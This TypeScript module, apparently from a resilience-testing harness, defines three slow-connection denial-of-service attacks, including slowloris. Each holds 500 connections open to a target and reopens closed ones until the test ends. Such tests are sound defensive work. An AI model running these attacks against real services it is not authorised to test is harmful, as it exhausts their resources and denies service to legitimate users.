import type { Attack, Attacker } from './attack.js';
import { startSlowClients, type Slowness } from './probes/slow-clients.js';

/** Number of connections that are kept busy at once. */
const CONNECTIONS = 500;

/** Time between two looks at whether the attack is over, in milliseconds. */
const PAUSE = 500;

/** Keeps connections busy until the time is over; those that the service has closed are opened again. */
async function keepBusy(attacker: Attacker, slowness: Slowness): Promise<void> {
  const target = { url: attacker.url, key: attacker.key, otherKey: '' };
  let clients = await startSlowClients(target, slowness, CONNECTIONS);
  while (!attacker.isOver()) {
    await new Promise((resolve) => setTimeout(resolve, PAUSE));
    if (clients.closed() < CONNECTIONS / 2) continue;
    clients.stop();
    clients = await startSlowClients(target, slowness, CONNECTIONS);
  }
  clients.stop();
}

const slow = (name: string, what: string, slowness: Slowness): Attack => ({
  name,
  what,
  play: (attacker) => keepBusy(attacker, slowness),
});

export const SLOW_HEADS = slow('slow-heads', 'hundreds of requests whose heads come byte by byte (slowloris)', 'HEAD');
export const SLOW_BODIES = slow('slow-bodies', 'hundreds of requests whose bodies come byte by byte', 'BODY');
export const SLOW_ANSWERS = slow('slow-answers', 'hundreds of large answers that the client does not take', 'ANSWER');
